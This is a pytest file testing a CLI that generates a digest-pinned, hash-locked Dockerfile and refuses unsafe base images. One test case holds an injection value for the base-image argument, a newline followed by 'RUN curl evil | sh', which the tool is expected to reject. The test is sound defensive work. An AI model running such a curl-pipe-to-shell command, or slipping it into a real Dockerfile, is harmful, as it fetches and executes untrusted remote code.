"""`trainlock container`: a Dockerfile pinned by digest, with the envelope's variables and --require-hashes.

Docker is not available here, so the Dockerfile is parsed: instructions with their
continuation lines joined, as Docker reads them.
"""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from trainlock.envelope import PROCESS_ENV_DEFAULTS

DIGEST = "sha256:" + "0123456789abcdef" * 4
BASE = f"python:3.11-slim@{DIGEST}"


def instructions(dockerfile: Path) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) pairs, comments dropped and backslash continuations joined."""
    parsed, pending = [], ""
    for line in dockerfile.read_text().splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        keyword, _, rest = (pending + line).strip().partition(" ")
        parsed.append((keyword.upper(), rest.strip()))
        pending = ""
    return parsed


def env_values(parsed: list[tuple[str, str]]) -> dict[str, str]:
    values = {}
    for keyword, rest in parsed:
        if keyword == "ENV":
            for pair in shlex.split(rest):
                name, _, value = pair.partition("=")
                values[name] = value
    return values


@pytest.fixture
def recipe(cli, tmp_path):
    out = tmp_path / "context"
    result = cli("container", "--base", BASE, "--out", out)
    assert result.code == 0, result.err
    assert result.out.startswith(f"wrote {out / 'Dockerfile'} and {out / '.dockerignore'} (base {BASE})\n")
    return out


def test_base_image_is_pinned_by_digest_for_the_platform(recipe):
    parsed = instructions(recipe / "Dockerfile")
    froms = [rest for keyword, rest in parsed if keyword == "FROM"]
    assert froms == [f"--platform=linux/amd64 {BASE}"]
    assert re.search(r"@sha256:[0-9a-f]{64}$", froms[0])


def test_envelope_variables_are_set_before_any_interpreter_starts(recipe):
    values = env_values(instructions(recipe / "Dockerfile"))
    for name, value in PROCESS_ENV_DEFAULTS.items():
        assert values[name] == value, name
    assert values["PIP_NO_INDEX"] == "1"  # nothing downloaded at run time


def test_install_uses_require_hashes_from_the_lock(recipe):
    parsed = instructions(recipe / "Dockerfile")
    runs = [shlex.split(rest) for keyword, rest in parsed if keyword == "RUN"]
    lock_install = next(run for run in runs if "requirements.lock" in run)
    assert lock_install[:4] == ["python", "-m", "pip", "install"]
    assert "--require-hashes" in lock_install
    assert lock_install[lock_install.index("-r") + 1] == "requirements.lock"
    assert ("COPY", "requirements.lock ./") in parsed
    # the lock is installed before the project's source is copied in: nothing unpinned slips in first
    assert parsed.index(("COPY", "requirements.lock ./")) < parsed.index(("COPY", "src ./src"))


def test_trainlock_is_the_entry_point_and_runs_unprivileged(recipe):
    parsed = instructions(recipe / "Dockerfile")
    assert ("ENTRYPOINT", '["trainlock"]') in parsed
    assert ("USER", "trainlock") in parsed
    assert parsed.index(("ENV", "PIP_NO_INDEX=1")) < parsed.index(("ENTRYPOINT", '["trainlock"]'))


def test_dockerignore_admits_only_what_the_image_installs(recipe):
    lines = [line for line in (recipe / ".dockerignore").read_text().splitlines() if line and not line.startswith("#")]
    assert lines[0] == "*"
    assert {"!requirements.lock", "!pyproject.toml", "!README.md", "!src/"} <= set(lines)


def test_a_tag_without_digest_is_refused(cli, tmp_path):
    result = cli("container", "--base", "python:3.11-slim", "--out", tmp_path)
    assert result.code == 2
    assert result.err == (
        "trainlock: error: base image 'python:3.11-slim' is not pinned by digest, so a rebuild may "
        "get other bytes; pass IMAGE@sha256:DIGEST, e.g. --base python:3.11-slim@sha256:<64 hex> "
        "(docker buildx imagetools inspect python:3.11-slim shows it), or --allow-tag to accept "
        "the risk\n"
    )
    assert not (tmp_path / "Dockerfile").exists()


def test_allow_tag_accepts_a_tag_and_warns(cli, tmp_path):
    result = cli("container", "--base", "python:3.11-slim", "--allow-tag", "--out", tmp_path)
    assert result.code == 0
    assert "warning: base image python:3.11-slim is a tag, not a digest" in result.err
    assert ("FROM", "--platform=linux/amd64 python:3.11-slim") in instructions(tmp_path / "Dockerfile")


@pytest.mark.parametrize(
    ("base", "fragment"),
    [
        (None, "no base image given; pass one pinned by digest"),
        ("python:3.11-slim@sha256:abc", "base image digest 'sha256:abc' is not sha256:<64 lower-case hex>"),
        ("python:3.11\nRUN curl evil | sh", "is not an image reference"),
    ],
)
def test_bad_base_images_are_refused(cli, tmp_path, base, fragment):
    args = ["container", "--out", tmp_path] + (["--base", base] if base is not None else [])
    result = cli(*args)
    assert result.code == 2
    assert fragment in result.err
    assert not (tmp_path / "Dockerfile").exists()


def test_platform_is_written_and_checked(cli, tmp_path):
    assert cli("container", "--base", BASE, "--platform", "linux/arm64", "--out", tmp_path).code == 0
    assert ("FROM", f"--platform=linux/arm64 {BASE}") in instructions(tmp_path / "Dockerfile")
    result = cli("container", "--base", BASE, "--platform", "arm64", "--out", tmp_path / "x")
    assert result.code == 2
    assert "--platform 'arm64' is not OS/ARCH[/VARIANT]" in result.err


def test_an_existing_dockerfile_is_replaced_only_with_force(cli, recipe):
    (recipe / "Dockerfile").write_text("FROM scratch\n")
    result = cli("container", "--base", BASE, "--out", recipe)
    assert result.code == 2
    assert result.err.startswith(f"trainlock: error: {recipe / 'Dockerfile'} already exists; pass --force")
    assert (recipe / "Dockerfile").read_text() == "FROM scratch\n"
    assert cli("container", "--base", BASE, "--out", recipe, "--force").code == 0
    assert (recipe / "Dockerfile").read_text() != "FROM scratch\n"
